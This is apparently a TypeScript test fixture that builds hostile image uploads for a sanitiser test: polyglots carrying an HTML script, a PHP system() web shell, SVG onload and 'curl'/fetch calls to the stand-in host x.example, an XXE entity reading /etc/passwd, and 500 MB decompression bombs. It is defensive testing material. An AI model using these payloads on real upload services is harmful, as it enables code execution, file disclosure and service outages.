import { deflateSync, gzipSync } from 'node:zlib'
import { randomOf } from '#shared/uad/testing/random.ts'
import { aPicture, aPictureOf, PICTURE_KINDS, type PictureKind } from '../../../../test/a-picture.ts'
import { decompressionBombs } from './bombs.ts'
import type { HostilePicture } from './hostile-picture.ts'
import { jpegWith, pngChunk, pngWith, webpWith, withComment } from './with-payload.ts'

/** Part of every payload; it must not be in any stored file. */
export const PAYLOAD_MARK = 'EVIL-7f3a91c0'

/** Generates the hostile files with their expected verdicts; more of them with PLUGFOLIO_LONG. */
export async function hostilePictures(): Promise<HostilePicture[]> {
  return [
    ...(await polyglots()),
    ...(await withMetadata()),
    ...(await truncated()),
    ...(await notPictures()),
    ...(await decompressionBombs()),
    ...(await damaged(process.env.PLUGFOLIO_LONG ? 420 : 8)),
  ]
}

/** Pictures with a few random bytes: some are refused, some can still be drawn, none may be stored unchanged. */
async function damaged(count: number): Promise<HostilePicture[]> {
  const random = randomOf(7)
  const pictures = await Promise.all(
    PICTURE_KINDS.map((kind) => aPictureOf(kind, { width: 120, height: 80 })),
  )
  return Array.from({ length: count }, (_, number) => {
    const bytes = withComment(...pictureAndKind(pictures, number), Buffer.from(PAYLOAD_MARK))
    for (let flips = 1 + Math.floor(random() * 12); flips > 0; flips--)
      bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256)
    return { what: `damaged picture ${number}`, bytes, verdict: 'any' }
  })
}

function pictureAndKind(pictures: Buffer[], number: number): [PictureKind, Buffer] {
  const at = number % PICTURE_KINDS.length
  return [PICTURE_KINDS[at] ?? 'png', pictures[at] ?? Buffer.alloc(0)]
}

const PAYLOADS: [what: string, payload: Buffer][] = [
  ['HTML', Buffer.from(`<!doctype html><html><script>alert('${PAYLOAD_MARK}')</script></html>`)],
  ['JavaScript', Buffer.from(`*/=1;fetch('//x.example/${PAYLOAD_MARK}');/*`)],
  ['PHP', Buffer.from(`<?php system($_GET['${PAYLOAD_MARK}']); ?>`)],
  ['SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${PAYLOAD_MARK}')"/>`)],
  ['ZIP', Buffer.from(`PK\x03\x04${PAYLOAD_MARK}PK\x05\x06`, 'latin1')],
  ['PDF', Buffer.from(`%PDF-1.7\n1 0 obj<</JS(${PAYLOAD_MARK})>>endobj\n%%EOF`)],
  ['shell', Buffer.from(`\n#!/bin/sh\ncurl x.example/${PAYLOAD_MARK}\n`)],
]

async function polyglots() {
  const made: HostilePicture[] = []
  for (const kind of PICTURE_KINDS) {
    const picture = await aPictureOf(kind)
    for (const [what, payload] of PAYLOADS) {
      const after = Buffer.concat([picture, payload])
      const inside = withComment(kind, picture, payload)
      made.push({ what: `${what} after a ${kind}`, bytes: after, verdict: 'stored' })
      made.push({ what: `${what} in a comment of a ${kind}`, bytes: inside, verdict: 'stored' })
    }
    const before = Buffer.concat([PAYLOADS[0]?.[1] ?? Buffer.alloc(0), picture])
    made.push({ what: `HTML before a ${kind}`, bytes: before, verdict: 'invalid_file_type' })
  }
  return made
}

/** Exif with a location (52° 31' N) and the mark as its description. */
const EXIF = Buffer.concat([
  Buffer.from('II*\0\x08\0\0\0', 'latin1'),
  Buffer.from('0200', 'hex'),
  Buffer.from('0e010200', 'hex'),
  Buffer.from([PAYLOAD_MARK.length + 1, 0, 0, 0, 56, 0, 0, 0]),
  Buffer.from('2588040001000000', 'hex'),
  Buffer.from([38, 0, 0, 0, 0, 0, 0, 0]),
  Buffer.from('0100', 'hex'),
  Buffer.from('0100020002000000', 'hex'),
  Buffer.from('4e00000000000000', 'hex'),
  Buffer.from(`${PAYLOAD_MARK}\0`),
])

async function withMetadata(): Promise<HostilePicture[]> {
  const [jpeg, png, webp] = [await aPictureOf('jpeg'), await aPictureOf('png'), await aPictureOf('webp')]
  const exif = Buffer.concat([Buffer.from('Exif\0\0'), EXIF])
  const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${PAYLOAD_MARK}</x:xmpmeta>`)
  const inflatesTo500MB = deflateSync(Buffer.alloc(500_000_000), { level: 1 })
  const comments = Buffer.concat(Array(200_000).fill(pngChunk('tEXt', Buffer.from(`a\0${PAYLOAD_MARK}`))))
  const profileHead = Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1')
  const profilePart = Buffer.concat([profileHead, Buffer.alloc(65_000, PAYLOAD_MARK)])
  let hugeProfile = jpeg
  for (let part = 0; part < 60; part++) hugeProfile = jpegWith(hugeProfile, 0xe2, profilePart)
  const packed = Buffer.concat([Buffer.from('a\0\0'), inflatesTo500MB])
  const crowded = Buffer.concat([png.subarray(0, 33), comments.subarray(0, 130_000 * 27), png.subarray(33)])
  const pictures: [what: string, bytes: Buffer][] = [
    ['a JPEG with a location', jpegWith(jpeg, 0xe1, exif)],
    ['a PNG with a location', pngWith(png, 'eXIf', EXIF)],
    ['a WebP with a location', webpWith(webp, 'EXIF', EXIF)],
    ['a JPEG with XMP', jpegWith(jpeg, 0xe1, xmp)],
    ['a JPEG with a color profile of 4 MB', hugeProfile],
    ['a PNG with a color profile that decompresses to 500 MB', pngWith(png, 'iCCP', packed)],
    ['a PNG with a comment that decompresses to 500 MB', pngWith(png, 'zTXt', packed)],
    ['a PNG with 130,000 comments', crowded],
  ]
  return pictures.map(([what, bytes]) => ({ what, bytes, verdict: 'stored' }))
}

async function truncated() {
  const made: HostilePicture[] = []
  for (const kind of PICTURE_KINDS) {
    const picture = await aPictureOf(kind)
    for (const share of [0.03, 0.5, 0.95]) {
      const bytes = picture.subarray(0, Math.floor(picture.length * share))
      made.push({ what: `the first ${share * 100} % of a ${kind}`, bytes, verdict: 'damaged_picture' })
    }
  }
  return made
}

async function notPictures(): Promise<HostilePicture[]> {
  const svg = Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
    <svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;${PAYLOAD_MARK}</text></svg>`,
  )
  const files: [what: string, bytes: Buffer][] = [
    ['an SVG', svg],
    ['a compressed SVG', gzipSync(svg)],
    ['a TIFF', await aPicture({ kind: 'tiff', width: 20, height: 20 })],
    ['an AVIF', await aPicture({ kind: 'avif', width: 20, height: 20 })],
    ['a BMP', Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)])],
    ['a PDF', Buffer.from('%PDF-1.7\n%%EOF')],
    ['an EPS', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n')],
    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
    ['a file of zeros', Buffer.alloc(1000)],
    ['an empty file', Buffer.alloc(0)],
    ['a single byte', Buffer.from([0xff])],
  ]
  return files.map(([what, bytes]) => ({ what, bytes, verdict: 'invalid_file_type' }))
}
